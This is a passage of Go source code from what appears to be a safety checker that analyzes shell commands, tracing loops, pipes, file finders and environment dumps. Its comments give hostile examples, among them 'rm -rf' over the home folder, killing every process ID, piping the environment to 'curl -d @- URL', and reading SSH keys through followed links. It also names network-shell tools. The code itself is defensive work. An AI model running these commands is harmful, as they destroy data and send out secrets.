	if !strings.HasPrefix(f.val, "-") {
		ts = append(ts, field{val: f.val})
	}
	if strings.ContainsAny(f.val, " \t\n") {
		for _, w := range strings.Fields(f.val) {
			if !strings.HasPrefix(w, "-") {
				ts = append(ts, field{val: w})
			}
		}
	}
	r.checkTargets(sc, ts, cmd)
}

// readLoop judges a while-read loop fed paths from find or another
// producer (find ~ | while read f; do cat "$f"; done): its body runs once
// for each start, the loop's variables standing for everything under it,
// as xargs after find does.
func (r *run) readLoop(sc *scope, wc *syntax.WhileClause, in input) {
	if wc.Until || r.loopVars != nil {
		return
	}
	vars := readVars(wc.Cond)
	if len(vars) == 0 {
		return
	}
	if in.kind == inText && !in.find {
		r.readTextLoop(sc, wc, vars, in.text)
		return
	}
	words := in.words
	if in.pids != "" {
		// ps -e | while read p; do kill $p; done is kill -1.
		words = []field{{dyn: true, why: in.pids}}
	} else if !in.find || len(in.words) == 0 {
		return
	}
	for i, it := range words {
		if r.overItems(i, "a loop reads more items than the bound") {
			break
		}
		r.loopVars = map[string]field{}
		for _, v := range vars {
			r.loopVars[v] = it
		}
		r.loopTree = in.find
		r.walk(sc, &syntax.File{Stmts: wc.Do})
	}
	r.loopVars, r.loopTree = nil, false
}

// readTextLoop judges a while-read loop over known text (a here-string,
// a here-document, echo's output): its body once for each line, read's
// variables holding the line's fields as read splits them with the
// default IFS (the last variable takes the rest of the line).
func (r *run) readTextLoop(sc *scope, wc *syntax.WhileClause, vars []string, text string) {
	for i, line := range strings.Split(strings.TrimSuffix(text, "\n"), "\n") {
		if r.overItems(i, "a loop reads more lines than the bound") {
			break
		}
		r.loopVars = map[string]field{}
		rest := strings.Trim(line, " \t")
		for k, v := range vars {
			val := rest
			if k < len(vars)-1 {
				j := strings.IndexAny(rest, " \t")
				if j < 0 {
					j = len(rest)
				}
				val = rest[:j]
				rest = strings.TrimLeft(rest[j:], " \t")
			}
			r.loopVars[v] = field{val: val}
		}
		r.walk(sc, &syntax.File{Stmts: wc.Do})
	}
	r.loopVars = nil
}

// forLoop judges a for loop over a list of words (for f in ~/*; do rm -rf
// "$f"; done) once for each word, the loop's variable standing for it: a
// pattern stands for everything it may match. The main walk judges the
// body with the variable unknown as well.
func (r *run) forLoop(sc *scope, fc *syntax.ForClause) {
	if cl, ok := fc.Loop.(*syntax.CStyleLoop); ok && r.loopVars == nil {
		// for ((p=2; p<32768; p++)) counts through a range of process
		// IDs: the body is judged with p standing for them.
		if name, n := countingLoop(cl); n > maxKillPids {
			r.loopVars = map[string]field{name: {dyn: true, why: whyAllPids}}
			r.walk(sc, &syntax.File{Stmts: fc.Do})
			r.loopVars = nil
		}
		return
	}
	wi, ok := fc.Loop.(*syntax.WordIter)
	if !ok || wi.Name == nil || r.loopVars != nil || wi.InPos.IsValid() && len(wi.Items) == 0 {
		return
	}
	// A body that never names the variable ($v, ${v...}, v in arithmetic
	// or a name reference) nor reads one indirectly (eval, ${!ref}) is the
	// same for every item: the main walk judged it. Any other body is judged once per item: a plain
	// word is a command name (for c in rm), a process ID (for p in 1; do
	// kill -9 $p), a host (for h in localhost; do ssh $h ...), a unit or
	// a variable's name as much as a path.
	body := sc.src
	if start, end := int(fc.DoPos.Offset()), int(fc.DonePos.Offset()); start >= 0 && start <= end && end <= len(sc.src) {
		body = sc.src[start:end]
	}
	if !identIn(body, wi.Name.Value) && !strings.Contains(body, "${!") && !strings.Contains(body, "eval") {
		return
	}
	var items []field
	if wi.InPos.IsValid() {
		items = r.words(sc, wi.Items)
	} else {
		// for NAME; do ... goes over "$@", the positional parameters,
		// when they are known (a function's body judged with its call's
		// arguments, bash -c SCRIPT _ ARGS).
		all, known := sc.lookup("@", uint(fc.Pos().Offset()))
		if !known || all == "" {
			return
		}
		for _, v := range strings.Split(all, "\x00") {
			items = append(items, field{val: v})
		}
	}
	vars, do := map[string]field{}, &syntax.File{Stmts: fc.Do}
	if why := loopPids(items); why != "" {
		// for p in {2..32768}, for p in $(pgrep .), for p in /proc/[0-9]*:
		// the variable stands for the IDs of nearly every process.
		items = []field{{dyn: true, why: why}}
	}
	if len(items) <= maxLoopItems && !slices.ContainsFunc(items, func(f field) bool { return f.dyn }) {
		sc.itemLoops = append(sc.itemLoops, itemLoop{wi.Name.Value, uint(fc.DoPos.Offset()), uint(fc.DonePos.Offset())})
	}
	for i, it := range items {
		if r.overItems(i, "a for loop has more items than the bound") {
			break
		}
		if it.dyn && !pidsWhy(it.why) {
			continue // the main walk read it unknown
		}
		vars[wi.Name.Value] = it
		r.loopVars = vars
		r.walk(sc, do)
	}
	r.loopVars = nil
}

// overItems reports whether item i of a loop or a list of start points is
// past maxLoopItems, and makes the command ask when it is: the items
// after it are not judged.
func (r *run) overItems(i int, what string) bool {
	if i < maxLoopItems {
		return false
	}
	r.tooComplex(fmt.Sprintf("%s (%d)", what, maxLoopItems))
	return true
}

// countingLoop returns the variable of an arithmetic for loop that counts
// up by one from one number to another (i=2; i<N; i++, ++i, i+=1) and how
// many values it takes; 0 for any other loop.
func countingLoop(cl *syntax.CStyleLoop) (string, int) {
	lit := func(x syntax.ArithmExpr) string {
		if w, ok := x.(*syntax.Word); ok {
			return w.Lit()
		}
		return ""
	}
	init, ok1 := cl.Init.(*syntax.BinaryArithm)
	cond, ok2 := cl.Cond.(*syntax.BinaryArithm)
	if !ok1 || !ok2 || init.Op != syntax.Assgn || lit(init.X) == "" || lit(cond.X) != lit(init.X) {
		return "", 0
	}
	name := lit(init.X)
	switch post := cl.Post.(type) {
	case *syntax.UnaryArithm:
		if post.Op != syntax.Inc || lit(post.X) != name {
			return "", 0
		}
	case *syntax.BinaryArithm:
		if post.Op != syntax.AddAssgn || lit(post.X) != name || lit(post.Y) != "1" {
			return "", 0
		}
	default:
		return "", 0
	}
	from, err1 := strconv.Atoi(lit(init.Y))
	to, err2 := strconv.Atoi(lit(cond.Y))
	if err1 != nil || err2 != nil {
		return "", 0
	}
	switch cond.Op {
	case syntax.Lss:
	case syntax.Leq:
		to++
	default:
		return "", 0
	}
	return name, to - from
}

// loopPids tells what a for loop's items are when they are process IDs
// that matter: more numbers than maxKillPids (a range), or a pattern
// of /proc's process folders (/proc/[0-9]*, /proc/*), are whyAllPids.
func loopPids(items []field) string {
	n := 0
	for _, it := range items {
		switch {
		case it.dyn && it.why == whyLargeBrace:
			n += maxBraceFields
		case !it.dyn && isDigits(it.val):
			n++
		case it.glob && procPidPattern(it.val):
			return whyAllPids
		}
	}
	if n > maxKillPids {
		return whyAllPids
	}
	return ""
}

// procPidPattern reports whether a pattern matches /proc's folders of
// processes: /proc/[0-9]*, /proc/[1-9]*, /proc/*.
func procPidPattern(p string) bool {
	rest, ok := strings.CutPrefix(p, "/proc/")
	if !ok || strings.Contains(strings.TrimSuffix(rest, "/"), "/") {
		return false
	}
	return bashGlobMatch(strings.TrimSuffix(rest, "/"), "4242", false)
}

// identIn reports whether name occurs in text as a whole identifier (not
// inside a longer name).
func identIn(text, name string) bool {
	isIdent := func(c byte) bool { return c == '_' || isAlnum(c) }
	for i := 0; ; {
		j := strings.Index(text[i:], name)
		if j < 0 {
			return false
		}
		j += i
		end := j + len(name)
		if (j == 0 || !isIdent(text[j-1])) && (end == len(text) || !isIdent(text[end])) {
			return true
		}
		i = j + 1
	}
}

// builtinAssigned returns the variables a call to printf -v or read
// gives values to, as written (a name that is not a literal is left
// out).
func builtinAssigned(call *syntax.CallExpr) []string {
	switch call.Args[0].Lit() {
	case "printf":
		if len(call.Args) > 2 && call.Args[1].Lit() == "-v" && isName(call.Args[2].Lit()) {
			return []string{call.Args[2].Lit()}
		}
	case "read":
		var names []string
		for _, n := range readVars([]*syntax.Stmt{{Cmd: call}}) {
			if isName(n) {
				names = append(names, n)
			}
		}
		return names
	}
	return nil
}

// readVars returns the variables a loop condition that is only read sets
// (read -r f, read -r a b, read with REPLY), none for anything else.
func readVars(cond []*syntax.Stmt) []string {
	if len(cond) != 1 {
		return nil
	}
	call, ok := cond[0].Cmd.(*syntax.CallExpr)
	if !ok || len(call.Args) == 0 || call.Args[0].Lit() != "read" {
		return nil
	}
	var names []string
	for i := 1; i < len(call.Args); i++ {
		v := call.Args[i].Lit()
		switch {
		case v == "":
			return nil
		case v == "-d" || v == "-p" || v == "-n" || v == "-N" || v == "-t" || v == "-u" || v == "-i" || v == "-a":
			i++
		case strings.HasPrefix(v, "-"):
		default:
			names = append(names, v)
		}
	}
	if len(names) == 0 {
		names = []string{"REPLY"}
	}
	return names
}

func isDigits(s string) bool {
	if s == "" {
		return false
	}
	for i := 0; i < len(s); i++ {
		if s[i] < '0' || s[i] > '9' {
			return false
		}
	}
	return true
}

// nodeText is the source text of a node.
func (r *run) nodeText(sc *scope, n syntax.Node) string {
	start, end := int(n.Pos().Offset()), int(n.End().Offset())
	if start < 0 || end > len(sc.src) || start > end {
		return ""
	}
	return sc.src[start:end]
}

// hdocText returns a here-document's text as written, without its closing
// delimiter line, which the parser's end position of the document takes
// in (<<'EOF' ... EOF): a file written from it holds the lines before
// the delimiter only, so that cat > package.json <<'EOF' writes JSON a
// reader can read.
func (r *run) hdocText(sc *scope, w *syntax.Word) string {
	text := r.nodeText(sc, w)
	i := strings.LastIndexByte(text, '\n')
	return text[:i+1] // (no newline: the document is empty, its one line the delimiter)
}

// pipeInput describes what the statement up writes into a pipe; paths says
// the reader runs commands on the paths it reads (consumesPaths).
func (r *run) pipeInput(sc *scope, up *syntax.Stmt, paths bool) input {
	unknown := input{kind: inUnknown, detail: "the output of another command"}
	if up == nil {
		return unknown
	}
	if d, ok := up.Cmd.(*syntax.DeclClause); ok && d.Variant != nil {
		// declare -p, export -p: builtins of their own in the syntax.
		var args []field
		for _, as := range d.Args {
			switch {
			case as.Naked && as.Name == nil && as.Value != nil:
				args = append(args, field{val: as.Value.Lit()})
			case as.Name != nil:
				args = append(args, field{val: as.Name.Value})
			}
		}
		if environDump(d.Variant.Value, args) {
			return input{kind: inUnknown, environ: true, detail: "the environment from " + d.Variant.Value}
		}
		return unknown
	}
	fs := r.argv(sc, up)
	if fs == nil {
		return unknown
	}
	if name, ok := r.callsScriptFunc(sc, fs); ok {
		return r.funcOutput(sc, up, name, fs, paths)
	}
	return r.programOutput(sc, up, fs, paths)
}

// holdAlso adds to in what o holds besides its text: the environment, a
// list of paths (and their starts), a peer's or a shell's output. Text
// written by several commands holds what any of them writes.
func (in *input) holdAlso(o input) {
	in.find = in.find || o.find
	in.environ = in.environ || o.environ
	in.peer = in.peer || o.peer
	in.shellOut = in.shellOut || o.shellOut
	in.words = append(in.words, o.words...)
}

// maxFuncOutput bounds the function bodies funcOutput reads into one
// another.
const maxFuncOutput = 4

// callsScriptFunc reports whether fs, a command's words, call a function
// the script defines, and returns its name. (command echo is written echo
// before the walk, see plainNames, and so is judged as a call of it; a
// wrapper such as sudo or env runs the program.)
func (r *run) callsScriptFunc(sc *scope, fs []field) (string, bool) {
	if len(fs) == 0 || fs[0].dyn {
		return "", false
	}
	_, ok := sc.funcs[fs[0].val]
	return fs[0].val, ok
}

// funcOutput is the output of a command that calls a function the script
// defines (echo() { command echo 'rm -rf ~'; }; echo hi | sh): its text is
// not known, whatever the program of that name would print, and it holds
// the environment, a list of paths, a peer's or a shell's output when the
// function's body writes one (f() { env; }; f | curl -d @- URL) or the
// program would (a wrapper runs the program, not the function).
func (r *run) funcOutput(sc *scope, up *syntax.Stmt, name string, fs []field, paths bool) input {
	in := input{kind: inUnknown, detail: "the output of the function " + name}
	merge := func(o input) {
		in.holdAlso(o)
		in.download = in.download || o.download
	}
	if fd := sc.funcs[name]; fd != nil && fd.Body != nil && sc.funcDepth < maxFuncOutput {
		sc.funcDepth++
		merge(r.writersOutput(sc, []*syntax.Stmt{fd.Body}, paths))
		sc.funcDepth--
	} else if fd == nil {
		in.detail = "the output of one of the functions named " + name
	}
	merge(r.programOutput(sc, up, fs, paths))
	return in
}

// followedStarts returns the start points of a finder whose paths a
// command acts on (paths): when told to follow the symbolic links below
// them (an option among follow: find -L, fd -L), the paths it prints lie
// where the links lead too, so each link below a start point (listed
// through Env.TreeLinks, see linksBelow) is one more start point: find
// -L . | xargs cat in a folder holding a link to ~/.ssh reads the keys.
// The tree is listed only for a command that acts on the paths (the
// links change nothing else).
func (r *run) followedStarts(sc *scope, up *syntax.Stmt, b string, starts, args []field, paths bool, follow ...string) []field {
	if !paths || r.env.TreeLinks == nil || r.env.Canonical == nil ||
		!slices.ContainsFunc(args, func(f field) bool { return !f.dyn && slices.Contains(follow, f.val) }) {
		return starts
	}
	out := slices.Clip(starts)
	for _, o := range starts {
		if o.dyn || o.val == "" {
			continue
		}
		for _, abs := range r.resolve(o).paths {
			links, ok := r.treeLinks(b, abs, r.nodeText(sc, up))
			if !ok {
				return out
			}
			for _, l := range links {
				out = append(out, field{val: l, expn: true})
			}
		}
	}
	return out
}

// programOutput is pipeInput for a command that runs a program or a
// builtin, not a function the script defines.
func (r *run) programOutput(sc *scope, up *syntax.Stmt, fs []field, paths bool) input {
	unknown := input{kind: inUnknown, detail: "the output of another command"}
	fs = innerCommand(fs)
	args := fs[1:]
	if d := decoderForm(fs); len(d) > 0 && decoders[base(d[0].val)] {
		if in, ok := r.decodedInput(sc, up, base(d[0].val), d[1:], paths); ok {
			return in
		}
	}
	if in, ok := r.decodedInput(sc, up, base(fs[0].val), args, paths); ok {
		return in
	}
	if psEnvDrive(fs) {
		return input{kind: inUnknown, environ: true, detail: "the environment from PowerShell's Env: drive"}
	}
	if b := base(fs[0].val); environPrinters[b] != nil && environDump(b, args) {
		return input{kind: inUnknown, environ: true, detail: "the environment from " + b}
	}
	switch b := base(fs[0].val); b {
	case "echo", "printf":
		for _, f := range args {
			if f.dyn {
				return unknown
			}
		}
		text, ok := printedBy(b, fieldVals(args), true, r.echo)
		if !ok {
			return unknown
		}
		return input{kind: inText, text: text, words: textWords(text), detail: "text from " + b}
	case "find", "bfs", "gfind":
		return input{kind: inUnknown, words: r.followedStarts(sc, up, b, findStarts(args), args, paths, "-L", "-follow"), find: true, detail: "paths from " + b}
	case "locate", "plocate", "mlocate", "slocate", "glocate":
		// The database holds every indexed path, home folders included,
		// and a pattern matches anywhere in a path.
		return input{kind: inUnknown, words: []field{{val: "/"}}, find: true, detail: "paths from " + b}
	case "mdfind":
		// Spotlight's index holds every indexed path, home folders
		// included, unless -onlyin names the folders searched.
		var starts []field
		for i, f := range args {
			if f.val == "-onlyin" && i+1 < len(args) {
				starts = append(starts, args[i+1])
			}
		}
		if len(starts) == 0 {
			starts = []field{{val: "/"}}
		}
		return input{kind: inUnknown, words: starts, find: true, detail: "paths from " + b}
	case "fd", "fdfind":
		return input{kind: inUnknown, words: r.followedStarts(sc, up, b, fdStarts(args), args, paths, "-L", "--follow"), find: true, detail: "paths from " + b}
	case "ls":
		var starts []field
		for _, f := range args {
			if !strings.HasPrefix(f.val, "-") || f.dyn {
				starts = append(starts, f)
			}
		}
		if len(starts) == 0 {
			starts = []field{{val: "."}}
		}
		return input{kind: inUnknown, words: starts, find: true, detail: "paths from ls"}
	case "curl", "wget", "wget2", "http", "https", "xh", "aria2c", "fetch", "ftp", "lftp", "tftp":
		return input{kind: inUnknown, download: true, detail: "a download by " + b}
	case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "busybox-nc", "telnet", "socat", "websocat", "cryptcat", "sbd", "pwncat":
		return input{kind: inUnknown, peer: true, detail: "a connection " + b + " holds"}
	case "sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "yash", "fish", "rbash", "pwsh":
		if slices.ContainsFunc(args, func(f field) bool { return f.dyn || !strings.HasPrefix(f.val, "-") || f.val == "-c" }) &&
			!slices.ContainsFunc(args, func(f field) bool { return f.val == "-s" || f.val == "-i" }) {
			return unknown // a script or a command line, not commands from its input
		}
		return input{kind: inUnknown, shellOut: true, detail: "the output of " + b + " reading commands from its input"}
	case "openssl":
		if len(args) > 0 && args[0].val == "s_client" {
			return input{kind: inUnknown, peer: true, detail: "a connection openssl s_client holds"}
		}
	case "env", "printenv", "set", "export", "declare", "typeset":
		if environDump(b, args) {
			return input{kind: inUnknown, environ: true, detail: "the environment from " + b}
		}
	case "cat":
		for _, f := range args {
			if f.dyn || f.why == whyProcSubst || f.val == "-" {
				return unknown
			}
		}
		// Options alone leave cat reading its input (see catReading): the
		// environment or a list of paths goes through, numbered or not
		// (known text is decodedInput's).
		if catReading(args) == catFiles {
			// cat FILE... | sh: the files, one after the other, unless an
			// option, before or after them, marks their lines (cat x.sh
			// -n | sh runs numbers).
			in := input{kind: inFile, detail: "file contents"}
			opts := true
			for _, a := range args {
				switch v := a.val; {
				case opts && v == "--":
					opts = false
				case opts && len(v) > 1 && v[0] == '-':
					if catReading([]field{a}) == catMarks {
						return input{kind: inFile, detail: "file contents"}
					}
				case isStdin(v):
				default:
					in.files = append(in.files, field{val: r.openedHere(v)})
				}
			}
			return in
		}
		return r.throughFilter(sc, up, b, unknown, paths)
	default:
		// Any other program given a home folder, or an ancestor of one,
		// may print paths from all of it (rg --files ~, tree -fi ~).
		if paths {
			if abs, ok := r.holdsHome(args); ok {
				return input{kind: inUnknown, words: []field{{val: abs}}, find: true, detail: "paths from " + b}
			}
		}
		if pathFilters[b] || psFilters[asciiLower(b)] {
			return r.throughFilter(sc, up, b, unknown, paths)
		}
		if encoders[b] {
			// Encoded, the environment is still the environment; a list
			// of paths is no longer one.
			if in := r.throughFilter(sc, up, b, unknown, false); in.environ {
				return in
			}
		}
	}
	return unknown
}

// printed is what bash's echo or printf (b) writes given args: echo's
// options (-n, -e, -E and their combinations) read, its escapes decoded
// under -e, and its newline added when newline is set (see bashEcho and
// bashPrintf, and docs/security-model.md, Hardline).
func printed(b string, args []string, newline bool) (string, bool) {
	return printedBy(b, args, newline, echoBash)
}

// printedBy is printed with echo read as reading says.
func printedBy(b string, args []string, newline bool, reading echoReading) (string, bool) {
	if b == "printf" {
		ended := len(args) > 0 && args[0] == "--"
		if ended {
			args = args[1:] // the end of printf's options: a format may start with '-'
		}
		if len(args) == 0 || !ended && strings.HasPrefix(args[0], "-") && args[0] != "-" {
			return "", false // an option (printf -v NAME prints nothing)
		}
		return bashPrintf(args[0], args[1:])
	}
	if reading == echoDash {
		// dash takes one -n and no other option: echo -e x writes "-e x".
		if len(args) > 0 && args[0] == "-n" {
			newline, args = false, args[1:]
		}
		return echoText(args, true, newline, escDash)
	}
	escapes := reading == echoXPG
	for len(args) > 0 && echoOption(args[0]) {
		for _, c := range args[0][1:] {
			switch c {
			case 'e':
				escapes = true
			case 'E':
				escapes = false
			case 'n':
				newline = false
			}
		}
		args = args[1:]
	}
	// What echo writes: joined with the outputs after it, the text is
	// exact.
	return bashEcho(args, escapes, newline)
}

// echoOption reports whether a is an option bash's echo takes: a dash
// and one or more of n, e and E.
func echoOption(a string) bool {
	return len(a) > 1 && a[0] == '-' && strings.Trim(a[1:], "neE") == ""
}

// maxWriters bounds the statements whose outputs writersInput combines;
// a pipe written by more makes the command ask (too-complex), since what
// the others write is not read.
const maxWriters = 64

// writers appends to out the statements that write into a pipe from s, in
// order: both sides of && and ||, every statement of a block or subshell,
// the last stage of a pipe. A loop, conditional or other compound command
// is one statement, whose output is not known. or says a || was crossed:
// its right side writes only when its left side fails. It reports false
// when there are more than maxWriters.
func writers(s *syntax.Stmt, out []*syntax.Stmt, or *bool) ([]*syntax.Stmt, bool) {
	if s == nil {
		return out, true
	}
	ok := true
	switch c := s.Cmd.(type) {
	case *syntax.BinaryCmd:
		switch c.Op {
		case syntax.Pipe, syntax.PipeAll:
			return writers(c.Y, out, or)
		case syntax.OrStmt:
			*or = true
		}
		if out, ok = writers(c.X, out, or); !ok {
			return out, false
		}
		return writers(c.Y, out, or)
	case *syntax.Block:
		return writersOf(c.Stmts, out, or)
	case *syntax.Subshell:
		return writersOf(c.Stmts, out, or)
	}
	if len(out) >= maxWriters {
		return out, false
	}
	return append(out, s), true
}

// writersOf is writers for each statement of a list.
func writersOf(stmts []*syntax.Stmt, out []*syntax.Stmt, or *bool) ([]*syntax.Stmt, bool) {
	ok := true
	for _, s := range stmts {
		if out, ok = writers(s, out, or); !ok {
			return out, false
		}
	}
	return out, true
}

// writerInput is the input a pipe carries from w, the whole command on its
// left (see writersInput).
func (r *run) writerInput(sc *scope, w *syntax.Stmt, paths bool) input {
	ws := [1]*syntax.Stmt{w}
	return r.writersInput(sc, ws[:], paths)
}

// writersInput is the input a pipe or a process substitution carries
// from stmts: the outputs of every statement that writes into it, in
// order (see writers), as bash writes them one after the other. The text
// is known only when each statement's text is and no || chooses which of
// two writes; the other properties (a list of paths, the environment, a
// network peer, a shell's output) hold when any statement's output has
// them, so { env; echo; } | curl -d @- URL sends the environment.
func (r *run) writersInput(sc *scope, stmts []*syntax.Stmt, paths bool) input {
	c := r.calls
	if c == nil {
		return r.readWriters(sc, stmts, paths)
	}
	// One writer's reading is kept: for the pipeline being walked while
	// it is walked, for any other until the outermost reading ends (a
	// reading walks up through filters twice, for their text and for the
	// environment or paths they pass on, so an unkept one costs 2^n).
	var key pipeMemoKey
	var memo map[pipeMemoKey]input
	if len(stmts) == 1 {
		key = pipeMemoKey{sc, stmts[0], paths}
		memo = c.readMemo
		if c.pipePrefixes[stmts[0]] {
			memo = c.pipeMemo
		}
		if in, ok := memo[key]; ok {
			return in
		}
	}
	if c.inputReads++; c.inputReads > maxInputReads {
		r.tooComplex("the command's pipes need more readings than the bound allows")
		return input{kind: inUnknown, detail: "the output of another command"}
	}
	if len(stmts) == 1 && c.pipePrefixes[stmts[0]] {
		r.readPrefixes(sc, stmts[0], paths)
	}
	c.readDepth++
	in := r.readWriters(sc, stmts, paths)
	c.readDepth--
	if key.stmt != nil {
		if memo == nil {
			c.readMemo = map[pipeMemoKey]input{}
			memo = c.readMemo
		}
		memo[key] = in
	}
	if c.readDepth == 0 {
		clear(c.readMemo)
	}
	return in
}

// readWriters is writersInput's reading, without its memo.
func (r *run) readWriters(sc *scope, stmts []*syntax.Stmt, paths bool) input {
	in := r.writersOutput(sc, stmts, paths)
	if len(stmts) == 1 {
		saved, savedCfg := r.xenv, r.cfg
		in.pids = r.substPids(sc, stmts)
		r.xenv, r.cfg = saved, savedCfg
		in.endless = endlessWriter(stmts[0])
	}
	return in
}

// readPrefixes reads the prefixes of the pipeline st that are not read
// yet, first to last, so that each reading finds the one before it in the
// memo and none walks up more than a stage.
func (r *run) readPrefixes(sc *scope, st *syntax.Stmt, paths bool) {
	var todo []*syntax.Stmt
	for {
		b := asPipe(st)
		if b == nil {
			break
		}
		st = b.X
		if _, done := r.calls.pipeMemo[pipeMemoKey{sc, st, paths}]; done || !r.calls.pipePrefixes[st] {
			break
		}
		todo = append(todo, st)
	}
	for i := len(todo) - 1; i >= 0 && r.calls.inputReads <= maxInputReads; i-- {
		r.writerInput(sc, todo[i], paths)
	}
}

// pipeMemoKey is what a pipe prefix's reading depends on besides the
// prefix: the scope and whether the reader runs commands on paths (see
// run.pipeMemo).
type pipeMemoKey struct {
	sc    *scope
	stmt  *syntax.Stmt
	paths bool
}

// maxInputReads bounds the readings of what pipes carry in one command;
// past it the command is too complex (ask). The memo keeps a pipeline's
// readings linear in its length; the bound holds for readings outside a
// pipeline being walked (a process or command substitution's).
const maxInputReads = 1 << 13

// maxFilterDepth bounds how far up a pipe's filters a reading goes (cat,
// grep, sort between a writer and its reader); past it the command is too
// complex (ask), so that no filter count hides what the pipe carries.
const maxFilterDepth = 64

// filterDepthOver reports whether a reading may not go further up a
// pipe's filters, and makes the command ask when it may not.
func (r *run) filterDepthOver(sc *scope) bool {
	if sc.filterDepth < maxFilterDepth {
		return false
	}
	r.tooComplex(fmt.Sprintf("a pipe's text passes through more than %d filters", maxFilterDepth))
	return true
}

// rememberPipe registers the prefixes of the pipeline n (a | b | c parses
// as (a | b) | c: a and a | b), found without recursion, for the memo of
// their readings, and returns the ones it added: a pipeline inside
// another's stage is registered while it is walked, each time anew.
func (r *run) rememberPipe(n *syntax.BinaryCmd) []*syntax.Stmt {
	c := r.calls
	if c == nil {
		return nil
	}
	if c.pipePrefixes == nil {
		c.pipePrefixes, c.pipeMemo = map[*syntax.Stmt]bool{}, map[pipeMemoKey]input{}
	}
	var added []*syntax.Stmt
	for {
		if !c.pipePrefixes[n.X] {
			c.pipePrefixes[n.X] = true
			added = append(added, n.X)
		}
		b := asPipe(n.X)
		if b == nil {
			return added
		}
		n = b
	}
}

// forgetPipe drops the prefixes rememberPipe added, and their readings:
// walked again (the body of a loop, for its next item), they are read
// again.
func (r *run) forgetPipe(added []*syntax.Stmt) {
	c := r.calls
	if c == nil || len(added) == 0 {
		return
	}
	for _, st := range added {
		delete(c.pipePrefixes, st)
	}
	if len(c.pipePrefixes) == 0 {
		clear(c.pipeMemo)
		return
	}
	for k := range c.pipeMemo {
		if slices.Contains(added, k.stmt) {
			delete(c.pipeMemo, k)
		}
	}
}

// endlessWriter reports whether a pipe's writer never stops writing: yes,
// seq inf or an endless loop, alone or through filters that pass lines on
// (cat, tr, grep without -m, cut, nl, rev, tee).
func endlessWriter(st *syntax.Stmt) bool {
	// The first stage decides before the pipeline is gathered: most
	// writers are not endless.
	switch c := firstStage(st).Cmd.(type) {
	case *syntax.WhileClause:
	case *syntax.CallExpr:
		if len(c.Args) == 0 || c.Args[0].Lit() != "yes" && c.Args[0].Lit() != "seq" && !strings.HasSuffix(c.Args[0].Lit(), "/yes") && !strings.HasSuffix(c.Args[0].Lit(), "/seq") {
			return false
		}
	default:
		return false
	}
	stages := pipeStages(st)
	switch c := stages[0].Cmd.(type) {
	case *syntax.WhileClause:
		if !endless(c) {
			return false
		}
	case *syntax.CallExpr:
		if len(c.Args) == 0 {
			return false
		}
		switch base(c.Args[0].Lit()) {
		case "yes":
		case "seq":
			inf := false
			for _, w := range c.Args[1:] {
				switch asciiLower(w.Lit()) {
				case "inf", "infinity", "+inf":
					inf = true
				}
			}
			if !inf {
				return false
			}
		default:
			return false
		}
	default:
		return false
	}
	for _, st := range stages[1:] {
		c, ok := st.Cmd.(*syntax.CallExpr)
		if !ok || len(c.Args) == 0 {
			return false
		}
		switch base(c.Args[0].Lit()) {
		case "cat", "tr", "cut", "nl", "rev", "tee":
		case "sed", "gsed":
			// sed passes lines on unless a q command ends it; a script
			// the reading of process filters does not parse counts as
			// passing them.
			for _, w := range c.Args[1:] {
				text, _ := staticText(w)
				if cmds, ok := sedCommands(text); ok && slices.ContainsFunc(cmds, func(c sedCommand) bool { return c.cmd == 'q' }) {
					return false
				}
			}
		case "awk", "gawk", "mawk", "nawk":
			// awk passes lines on unless its program may exit.
			for _, w := range c.Args[1:] {
				if text, _ := staticText(w); strings.Contains(text, "exit") {
					return false
				}
			}
		case "grep", "egrep", "fgrep":
			for _, w := range c.Args[1:] {
				if l := w.Lit(); strings.HasPrefix(l, "-m") || strings.HasPrefix(l, "--max-count") || l == "-q" {
					return false
				}
			}
		default:
			return false // the reader of the pipe, or a stage that may stop (head, sed q)
		}
	}
	return true
}

// maxParallel is the most processes xargs -P or parallel -j may run at
// once, fed a list without end, before they are a fork bomb; 0 is no
// limit at all.
const maxParallel = 512

// unboundedProcs reports whether v, the value of xargs -P or parallel -j,
// lets them run as many processes as their input asks for.
func unboundedProcs(v field) bool {
	if v.dyn {
		return false
	}
	n, err := strconv.Atoi(strings.TrimSuffix(v.val, "%"))
	return err == nil && (n == 0 || n >= maxParallel && !strings.HasSuffix(v.val, "%"))
}

// writersOutput is writersInput but for pids.
func (r *run) writersOutput(sc *scope, stmts []*syntax.Stmt, paths bool) input {
	if len(stmts) == 1 {
		switch stmts[0].Cmd.(type) {
		case *syntax.BinaryCmd, *syntax.Block, *syntax.Subshell:
		default:
			return r.pipeInput(sc, stmts[0], paths) // one writer, as most pipes have
		}
	}
	or := false
	ws, ok := writersOf(stmts, nil, &or)
	if len(ws) == 1 && ok && !or {
		return r.pipeInput(sc, ws[0], paths)
	}
	if !ok {
		r.tooComplex(fmt.Sprintf("a pipe is written by more than %d commands", maxWriters))
	}
	all := input{kind: inText, detail: "the outputs of several commands"}
	var text, partial strings.Builder
	for _, w := range ws {
		in := r.pipeInput(sc, w, paths)
		all.holdAlso(in)
		if in.kind != inText {
			all.kind = inUnknown
			continue
		}
		text.WriteString(in.text)
		// Each known piece stands on lines of its own in the partial
		// reading: an unknown piece before it may end without one.
		partial.WriteString(in.text)
		partial.WriteByte('\n')
	}
	if !ok || or || len(ws) == 0 {
		all.kind = inUnknown
	}
	if all.kind == inText {
		all.text = text.String()
		all.words = textWords(all.text)
	} else {
		all.partial = strings.TrimSpace(partial.String())
	}
	return all
}

// pathConsumers run commands on the items they read (see feed), or read
// the files they name (cpio -o, afio -o, pax -w, zip -@, tar -T -).
var pathConsumers = map[string]bool{"xargs": true, "parallel": true, "rush": true, "gargs": true, "xe": true,
	"cpio": true, "bsdcpio": true, "afio": true, "pax": true, "zip": true, "tar": true, "bsdtar": true, "rsync": true,
	// PowerShell's cmdlets that act on the items their input names.
	"Remove-Item": true, "remove-item": true, "ri": true}

// procSubstIn returns the input process substitution w is, <(CMD).
func procSubstIn(w *syntax.Word) (*syntax.ProcSubst, bool) {
	if w == nil || len(w.Parts) != 1 {
		return nil, false
	}
	ps, ok := w.Parts[0].(*syntax.ProcSubst)
	return ps, ok && ps.Op == syntax.CmdIn && len(ps.Stmts) > 0
}

// consumesPaths reports whether s runs commands on the paths it reads
// (xargs, parallel, ..., also behind a wrapper such as sudo or nice): only
// then is it worth resolving where an unknown producer's paths come from
// (rg --files ~ | xargs cat).
func consumesPaths(s *syntax.Stmt) bool {
	call, ok := s.Cmd.(*syntax.CallExpr)
	if !ok {
		return false
	}
	for _, w := range call.Args[:min(len(call.Args), 4)] {
